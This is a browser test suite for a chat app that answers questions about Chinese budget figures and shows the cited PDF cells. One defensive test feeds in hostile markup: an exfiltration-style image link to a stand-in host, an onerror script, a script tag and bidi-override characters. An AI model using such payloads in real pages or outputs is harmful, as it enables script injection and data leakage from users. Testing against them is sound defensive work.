"""The journeys of the talk, in a real headless browser against the real server."""

import re
import time
import urllib.request

import pytest
from chat_server import CHROMIUM, WAIT, answer_of, ask, headless, open_page, serving_chat, settled

from views.links import packed

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine (apt-get install chromium)"),
]

FIGURE = re.compile(r"-?[\d,]+(\.\d+)? ?(万|亿)?元")


@pytest.fixture(scope="module")
def chat(sample_index):
    """(address, seconds until the server answered) of a chat on the sample."""
    with serving_chat(sample_index) as served:
        yield served


@pytest.fixture(scope="module")
def browser():
    with headless() as opened:
        yield opened


@pytest.fixture
def page(browser, chat):
    """The first screen, with every request that leaves this machine noted in `page.left`."""
    with open_page(browser, chat[0]) as opened:
        yield opened


def figure_of(answer):
    return answer.get_by_role("heading").first.inner_text()


def test_the_server_answers_within_twenty_seconds(chat):
    assert chat[1] < 20


def quickest(times):
    """Of several tries the best: the others were held up by whatever else this machine does."""
    return min(times)


def test_a_warm_server_shows_its_first_screen_within_four_seconds(browser, chat):
    times = []
    for _ in range(3):
        opened = browser.new_page()
        started = time.monotonic()
        opened.goto(chat[0], wait_until="commit")
        opened.get_by_text("可以这样问").wait_for(timeout=WAIT)
        times.append(time.monotonic() - started)
        opened.close()
    assert quickest(times) < 4  # two on a quiet machine; shared ones took three


def test_a_question_is_drawn_within_two_seconds_and_its_page_within_half_a_second(page, chat):
    drawn, pictured = [], []
    for number, word in enumerate(("差旅费", "会议费", "公务接待费", "办公费")):
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill(f"2026年{word}是多少")
        started = time.monotonic()
        page.keyboard.press("Enter")
        answer_of(page, number).get_by_text("理解为").wait_for(timeout=WAIT)
        drawn.append(time.monotonic() - started)
        settled(page)
    picture = page.locator(".st-key-source_pane img").first.evaluate("e => e.src")
    for number in range(1, 5):
        started = time.monotonic()
        assert urllib.request.urlopen(re.sub(r"\d+\.webp", f"{number}.webp", picture), timeout=10).read()
        pictured.append(time.monotonic() - started)
    assert quickest(drawn) < 2  # half of one on a quiet machine; shared ones took a whole one
    assert quickest(pictured) < 0.5


def test_a_question_gives_figure_badge_and_the_page_with_its_cell(page):
    ask(page, "2026年差旅费是多少")
    answer = answer_of(page, 0)
    figure = figure_of(answer)
    assert FIGURE.fullmatch(figure)
    answer.get_by_text(re.compile("已核对|表文不一致")).filter(visible=True).first.wait_for(timeout=WAIT)
    picture = page.locator(".st-key-source_pane img").first
    picture.wait_for(timeout=WAIT)
    page.wait_for_function("e => e.complete && e.naturalWidth > 800", arg=picture.element_handle(), timeout=WAIT)
    assert page.locator(".st-key-source_pane .box").count() == 1
    marked = page.locator(".st-key-source_pane .marks").inner_text().split("\n")
    assert any("差旅费" in words for words in marked)
    assert marked[-2:] == ["数", figure]


def test_a_citation_moves_the_pane_and_its_pages_turn(page):
    ask(page, "2026年支出总计是多少")
    pane = page.locator(".st-key-source_pane")
    answer_of(page, 0).get_by_role("button", name=re.compile(r"\[2\]")).first.click()
    settled(page)
    pane.locator(".place").wait_for(timeout=WAIT)
    before = pane.locator(".place").inner_text()
    pane.get_by_role("button", name="下一页").click()
    assert pane.locator(".place").inner_text() != before
    pane.get_by_role("button", name="回到所引之处").click()
    assert pane.locator(".place").inner_text() == before
    pane.get_by_role("button", name="放大").click()
    pane.get_by_text("整张表").click()
    pane.locator("td.lit").first.wait_for(timeout=WAIT)


@pytest.mark.parametrize("width", [1280, 390])
def test_row_column_and_number_stay_in_view_however_far_one_zooms(browser, chat, width):
    with open_page(browser, chat[0], width=width, height=844) as page:
        ask(page, "2026年差旅费是多少")
        answer_of(page, 0).get_by_role("button", name=re.compile("PDF第")).filter(visible=True).first.click()
        settled(page)
        pane = page.locator(".st-key-source_pane")
        pane.get_by_text(re.compile("PDF第 \\d+ / \\d+ 页")).wait_for(timeout=WAIT)
        page.wait_for_timeout(900)  # a phone scrolls to the pane
        larger = pane.get_by_role("button", name="放大")
        while larger.is_enabled():
            larger.click()
            page.wait_for_timeout(150)
            box, frame, strip = (pane.locator(part).bounding_box() for part in (".box", ".frame", ".marks"))
            assert frame["x"] <= box["x"] + box["width"] <= frame["x"] + frame["width"] + 4
            assert max(frame["y"], 0) <= box["y"] + box["height"] <= min(frame["y"] + frame["height"], 844)
            assert 0 <= strip["y"] < frame["y"]
        names = pane.locator(".marks .name").all_inner_texts()
        assert names[:1] + names[-1:] == ["行", "数"]


def test_a_chip_changes_the_year_and_the_figure(page):
    ask(page, "2026年差旅费是多少")
    before = figure_of(answer_of(page, 0))
    answer_of(page, 0).get_by_text(re.compile("年度：2026")).click()
    settled(page)
    box = answer_of(page, 0).get_by_role("combobox")
    box.click()
    page.get_by_role("option", name="2025年").click()
    answer_of(page, 1).get_by_text("理解为").wait_for(timeout=WAIT)
    assert "2025" in answer_of(page, 1).inner_text()
    assert answer_of(page, 1).inner_text() != answer_of(page, 0).inner_text()
    assert before == figure_of(answer_of(page, 0))


def test_a_follow_up_answers(page):
    ask(page, "2026年差旅费是多少")
    answer_of(page, 0).locator("[class*=st-key-answer-0-next] button").first.click()
    answer_of(page, 1).get_by_text("理解为").wait_for(timeout=WAIT)
    assert answer_of(page, 1).get_by_text(re.compile("已核对|由单元格计算|表文不一致|仅见正文")).count()


def test_a_question_that_stands_alone_is_read_alone(page):
    ask(page, "农村饮水安全维修养护资金是多少")
    ask(page, "2026年会议费是多少")
    assert "会议费" in answer_of(page, 1).inner_text()
    assert "饮水" not in answer_of(page, 1).inner_text()


def test_an_ambiguous_question_is_a_table_with_a_choice(page, chat):
    query = {"v": 1, "scope": {"year": 2026}, "ask": {"cell": {"row": "满意度"}}}
    page.goto(f"{chat[0]}/?q={packed(query, '', '2026年满意度')}")
    table = answer_of(page, 0).get_by_role("grid").first
    table.wait_for(timeout=WAIT)
    row = table.locator("tbody tr").nth(1)
    figure = row.locator("td.number").first.inner_text()
    row.get_by_role("button", name=re.compile("就是这个")).click()
    answer_of(page, 1).get_by_role("heading").first.wait_for(timeout=WAIT)
    assert figure_of(answer_of(page, 1)) == figure


def test_what_was_found_without_some_words_is_verified_by_a_click(browser, chat):
    query = {"v": 1, "scope": {"year": 2026}, "ask": {"cell": {"row": "差旅费"}}, "unused": ["大厅"]}
    with open_page(browser, chat[0], f"?q={packed(query, '', '2026年大厅差旅费')}") as page:
        assert answer_of(page, 0).locator("del, s").all_inner_texts()[0] == "大厅"
        assert answer_of(page, 0).get_by_text("待确认").filter(visible=True).count()
        figure = figure_of(answer_of(page, 0))
        answer_of(page, 0).get_by_role("button", name="就看这个数").click()
        answer_of(page, 1).get_by_text("已核对").filter(visible=True).first.wait_for(timeout=WAIT)
        assert FIGURE.fullmatch(figure_of(answer_of(page, 1))) and figure_of(answer_of(page, 1)) == figure


def test_a_long_answer_is_seen_from_its_question_and_stays_where_one_scrolls(page):
    top = "e => e.getBoundingClientRect().top"
    for number, question in enumerate(("2026年花钱最多的五个项目", "2026年有哪些项目")):
        ask(page, question)
        asked = page.get_by_test_id("stChatMessage").nth(2 * number)
        assert 50 < asked.evaluate(top) < 110
    page.mouse.move(20, 400)
    page.mouse.wheel(0, 250)
    page.wait_for_function("e => e.getBoundingClientRect().top < 0", arg=asked.element_handle(), timeout=WAIT)
    page.wait_for_timeout(400)
    assert asked.evaluate(top) < 0


def test_a_phone_shows_the_answer_of_a_chip_from_its_beginning_and_lets_one_scroll_up(browser, chat):
    top = "e => e.getBoundingClientRect().top"
    with open_page(browser, chat[0], width=390, height=844) as phone:
        ask(phone, "2026年差旅费是多少")
        answer_of(phone, 0).get_by_text(re.compile("年度：2026")).click()
        settled(phone)
        answer_of(phone, 0).get_by_role("combobox").click()
        phone.get_by_role("option", name="2025年").click()
        answer_of(phone, 1).get_by_text("理解为").wait_for(timeout=WAIT)
        settled(phone)
        phone.wait_for_timeout(600)
        asked = phone.get_by_test_id("stChatMessage").nth(2)
        assert 50 < asked.evaluate(top) < 110
        phone.mouse.move(200, 400)
        phone.mouse.wheel(0, -300)
        phone.wait_for_timeout(1500)
        assert asked.evaluate(top) > 200


def test_the_menu_of_a_phone_closes_and_hides_what_would_lie_over_it(browser, chat):
    with open_page(browser, chat[0], width=390, height=844) as phone:
        switch = phone.locator(".st-key-language_switch")
        assert switch.is_visible()
        phone.get_by_test_id("stExpandSidebarButton").click()
        close = phone.get_by_test_id("stSidebarCollapseButton").get_by_role("button")
        close.wait_for(state="visible", timeout=WAIT)
        assert not switch.is_visible()
        close.click()
        switch.wait_for(state="visible", timeout=WAIT)


def test_what_is_not_found_offers_what_was_tried(page):
    ask(page, "2023年差旅费是多少")
    answer = answer_of(page, 0)
    assert "没有" in answer.inner_text()
    answer.get_by_text("下面这些试过").wait_for(timeout=WAIT)
    answer.locator("[class*=-next-] button").first.click()
    answer_of(page, 1).get_by_role("heading").first.wait_for(timeout=WAIT)


def test_a_rank_is_a_table_a_chart_and_a_file(page, tmp_path):
    ask(page, "2026年花钱最多的五个项目")
    answer = answer_of(page, 0)
    rows = answer.locator("tbody tr")
    rows.first.wait_for(timeout=WAIT)
    assert rows.count() == 5
    assert rows.first.locator("td.number").first.evaluate("e => getComputedStyle(e).textAlign") == "right"
    answer.locator("[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg").first.wait_for(timeout=WAIT)
    with page.expect_download() as waited:
        answer.get_by_role("button", name="CSV").click()
    lines = (waited.value.path()).read_text(encoding="utf-8-sig").splitlines()
    assert len(lines) == 6
    assert lines[0].startswith("名称,数额")


def test_earlier_questions_come_back_by_the_arrow_and_are_edited(page):
    ask(page, "2026年差旅费是多少")
    box = page.get_by_test_id("stChatInputTextArea")
    box.click()
    page.keyboard.press("ArrowUp")
    assert box.input_value() == "2026年差旅费是多少"
    box.fill("")
    answer_of(page, 0).get_by_role("button", name="改问法").click()
    page.wait_for_function("e => e.value.includes('差旅费')", arg=box.element_handle(), timeout=WAIT)


def test_a_deep_link_opens_its_answer(page, chat):
    ask(page, "2026年差旅费是多少")
    figure = figure_of(answer_of(page, 0))
    answer_of(page, 0).get_by_role("button", name="链接").click()
    link = page.get_by_test_id("stCode").filter(visible=True).first.inner_text().strip()
    assert "?q=" in link
    page.goto(link.replace("\n", ""))
    answer_of(page, 0).get_by_role("heading").first.wait_for(timeout=WAIT)
    assert figure_of(answer_of(page, 0)) == figure
    assert "与当时相同" in answer_of(page, 0).inner_text()


def test_a_pin_is_there_when_the_page_is_opened_again(page, chat):
    ask(page, "2026年差旅费是多少")
    figure = figure_of(answer_of(page, 0))
    answer_of(page, 0).get_by_role("button", name="固定").click()
    page.wait_for_function("(localStorage.getItem('mingzhang.pins') || '').length > 2", timeout=WAIT)
    page.goto(chat[0])
    page.get_by_role("heading", name="固定的回答").wait_for(timeout=WAIT)
    assert figure in page.locator("[class*=st-key-pin-0]").inner_text()
    page.goto(chat[0] + "/desk")
    page.locator("body[data-keys=ready]").wait_for(state="attached", timeout=WAIT)
    settled(page)
    page.keyboard.press("/")
    page.keyboard.type("差旅费")
    page.get_by_role("button", name="固定的回答").click()
    answer_of(page, 0).get_by_role("heading").first.wait_for(timeout=WAIT)
    assert figure_of(answer_of(page, 0)) == figure


def test_hostile_markup_neither_runs_nor_calls_home(page):
    page.on("dialog", lambda dialog: pytest.fail("a script ran"))
    hostile = '![x](https://example.invalid/leak?d=1) <img src="https://example.invalid/y" onerror="alert(1)"> '
    hostile += "<script>alert(1)</script> $x^2$ \u202e\u202d"
    ask(page, hostile)
    page.wait_for_timeout(500)
    assert page.left == []
    assert page.get_by_test_id("stChatMessage").locator("img[src*=invalid]").count() == 0
    shown = page.get_by_test_id("stChatMessage").first.inner_text()
    assert "<script>alert(1)</script>" in shown
    assert "$x^2$" in shown
    assert "\u202e" not in shown


def test_nothing_is_fetched_from_elsewhere_on_the_first_screen(page):
    page.wait_for_timeout(500)
    assert page.left == []


def test_the_page_forbids_strangers_by_header(chat):
    for path in ("", "/original/x/page/1.webp"):
        try:
            headers = urllib.request.urlopen(chat[0] + path, timeout=10).headers
        except urllib.error.HTTPError as problem:
            headers = problem.headers
        assert "default-src 'self'" in headers["Content-Security-Policy"]
        assert headers["X-Content-Type-Options"] == "nosniff"


def test_a_phone_holds_an_answer_and_its_source_without_sideways_scrolling(browser, chat):
    with open_page(browser, chat[0], width=390, height=844) as phone:
        ask(phone, "2026年花钱最多的五个项目")
        pane = phone.locator(".st-key-source_pane")
        assert not pane.is_visible()
        assert phone.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        answer_of(phone, 0).locator("tbody tr").first.click()
        pane.wait_for(state="visible", timeout=WAIT)
        assert phone.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_words_stand_out_in_light_and_dark(browser, chat, scheme):
    with open_page(browser, chat[0], color_scheme=scheme) as page:
        ask(page, "2026年差旅费是多少")
        for place in ("[data-testid=stCaptionContainer] p", "[data-testid=stChatMessage] h3", "[data-testid=stChatMessage] button p"):
            assert page.locator(place).filter(visible=True).first.evaluate(CONTRAST) >= 4.5
        back = page.evaluate("getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor")
        assert (sum(map(int, re.findall(r"\d+", back)[:3])) < 200) == (scheme == "dark")


def test_the_theme_is_chosen_in_the_page_and_kept_for_all_pages(page, chat):
    back = "getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor.match(/\\d+/g).map(Number)[0]"
    assert page.evaluate(back) > 200
    page.get_by_role("button", name="菜单").click()
    page.get_by_test_id("stMainMenuItem-theme-Dark").click()
    page.wait_for_function(f"{back} < 100", timeout=WAIT)
    page.goto(chat[0] + "/desk")
    page.locator(".st-key-desk_text").wait_for(timeout=WAIT)
    assert page.evaluate(back) < 100


def test_the_numbers_of_a_chart_stand_out_in_the_dark(browser, chat):
    with open_page(browser, chat[0], color_scheme="dark") as page:
        ask(page, "2026年花钱最多的五个项目")
        number = answer_of(page, 0).locator("[data-testid=stVegaLiteChart] svg text").filter(has_text="元").first
        number.wait_for(timeout=WAIT)
        assert min(number.evaluate("e => getComputedStyle(e).fill.match(/\\d+/g).map(Number)")) > 180


CONTRAST = """e => {
  const light = (c) => { const [r, g, b] = c.map((v) => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const rgba = (s) => s.match(/[\\d.]+/g).map(Number);
  let under = e; let back = [255, 255, 255];
  while (under) { const c = rgba(getComputedStyle(under).backgroundColor); if (c.length < 4 || c[3] > 0.9) { back = c.slice(0, 3); break; }
    under = under.parentElement; }
  let [r, g, b, a = 1] = rgba(getComputedStyle(e).color);
  for (let each = e; each; each = each.parentElement) a *= Number(getComputedStyle(each).opacity);
  const fore = [r, g, b].map((v, i) => v * a + back[i] * (1 - a));
  const [x, y] = [light(fore), light(back)].sort((p, q) => q - p);
  return (x + 0.05) / (y + 0.05);
}"""
